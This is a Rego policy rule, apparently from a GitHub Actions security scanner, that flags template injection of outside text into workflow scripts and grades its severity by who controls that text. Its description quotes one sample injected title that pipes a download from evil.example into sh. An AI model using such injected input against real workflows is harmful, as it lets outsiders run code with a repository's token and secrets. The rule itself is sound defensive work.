# METADATA
# title: Text from outside becomes part of a script
# description: >-
#   GitHub replaces ${{ … }} with its value before the script runs, so quotes around it protect nothing: a title such as
#   a"; curl evil.example | sh; " is then part of the program. Whoever can write the text runs commands with the job's
#   token and secrets. How grave that is depends on who can write it: high where anybody on GitHub can and the run holds
#   the repository's own token; medium where the run is a fork's, or a merge comes first, or the caller decides; low for
#   inputs of an action or reusable workflow, whose callers may pass such text on, and for what only people with write
#   access choose. The text is followed through environment variables, outputs of steps, jobs and known actions, the
#   matrix, and the inputs and outputs of the actions and workflows of the same repository. A script that runs a
#   variable as code by itself, with eval or bash -c, is no better than an expression.
# related_resources:
#   - ref: https://docs.github.com/en/actions/concepts/security/script-injections
#     description: Script injections
#   - ref: https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks
#     description: Use an intermediate environment variable
# custom:
#   severity: high
#   confidence: high
#   kinds: [workflow, action]
#   since: 0.1.0
#   remediation: >-
#     Set an environment variable from the expression in env: of the step and use the variable in the script, quoted:
#     "$TITLE", or process.env.TITLE in github-script.
#   frameworks:
#     owasp-cicd-2022: [CICD-SEC-4]
#     scorecard-5: [Dangerous-Workflow]
#     ssdf-1.1: [PO.5.1, PW.5.1]
package rules.workflow["template-injection"]

deny contains object.union_n([
	{
		"msg": sprintf("%s: %s", [deed(i), who(i)]),
		"path": i.path,
		"text": i.text,
		"severity": severity(i),
		"confidence": confidence(i),
		"related": i.way,
	},
	object.filter(i, {"fix"}),
	persona(i),
]) if {
	some i in input.facts.workflow.injections
}

deed(i) := sprintf("%s is run as code by %s, from a variable of the shell", [i.context, i.command]) if {
	i.command
} else := sprintf("%s decides the directory that the script runs in", [subject(i)]) if {
	i.sink == "working-directory"
} else := sprintf("%s is put into %s as code", [subject(i), place(i)])

subject(i) := sprintf("%s, set from %s,", [i.via, i.context]) if {
	i.via != ""
} else := i.context

place(i) := "the script" if {
	i.sink == "run"
} else := "the command that runs the script" if {
	i.sink == "shell"
} else := "the command that starts the container" if {
	i.sink in {"container options", "docker args", "docker entrypoint"}
} else := sprintf("%s, which programs take code from,", [substring(i.sink, 4, -1)]) if {
	startswith(i.sink, "env ")
} else := sprintf("the input %s", [i.sink])

severity(i) := "medium" if {
	i.weak
	grave(i) == "high"
} else := grave(i)

confidence(i) := "low" if {
	i.weak
} else := sure(i)

# What follows is for environment-injection too: who decides, how grave that is, how sure.

who(x) := "whoever calls this decides what runs" if {
	x.reach == "caller"
} else := "whoever has write access decides what runs" if {
	x.reach == "writer"
} else := sprintf("whoever gets a change merged decides what runs on %s", [x.event]) if {
	x.reach == "contributor"
} else := sprintf("anybody decides what runs on %s%s", [x.event, unless(x)])

unless(x) := " once the label is set" if {
	x.protection == "label"
} else := ", unless the environment asks for approval" if {
	x.protection == "environment"
} else := ""

grave(x) := "low" if {
	guarded(x)
} else := "medium" if {
	x.protection != "none"
} else := "high" if {
	x.reach == "outsider"
	x.privileged
} else := "medium"

# Somebody whom the repository trusts decides, or hands the text on.
guarded(x) if x.reach == "writer"

guarded(x) if x.input

guarded(x) if x.protection == "person"

sure(x) := "low" if {
	guarded(x)
} else := "low" if {
	x.unclear
} else := "low" if {
	x.protection in {"label", "environment"}
} else := "medium" if {
	x.reach in {"caller", "contributor"}
} else := "high"

# What only people with write access choose is for a review.
persona(x) := {"persona": "auditor"} if {
	x.reach == "writer"
} else := {}
